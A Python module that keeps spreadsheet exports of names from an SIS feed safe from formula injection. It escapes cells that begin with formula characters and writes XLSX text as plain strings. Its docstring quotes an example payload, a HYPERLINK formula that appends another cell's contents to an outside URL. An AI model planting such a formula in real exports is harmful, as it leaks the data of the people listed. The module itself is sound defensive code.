"""Cells that a spreadsheet must show as text, never run (CSV/formula injection, CWE-1236).

Names come from the SIS feed; a name such as ``=HYPERLINK("http://…"&B5, "x")`` would otherwise be
a live formula when the export is opened. CSV: a text cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return gets a leading apostrophe (OWASP's advice; spreadsheets show it
as text). XLSX: every text cell is written as a string cell, never as a formula.
"""

from __future__ import annotations

from typing import Any

from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def as_text_cells(sheet: Worksheet) -> None:
    """Turn every text cell of the sheet into a plain string cell (openpyxl makes ``=…`` a formula)."""
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"
                if cell.value.startswith(FORMULA_STARTS):
                    cell.quotePrefix = True  # stays text when someone edits the cell
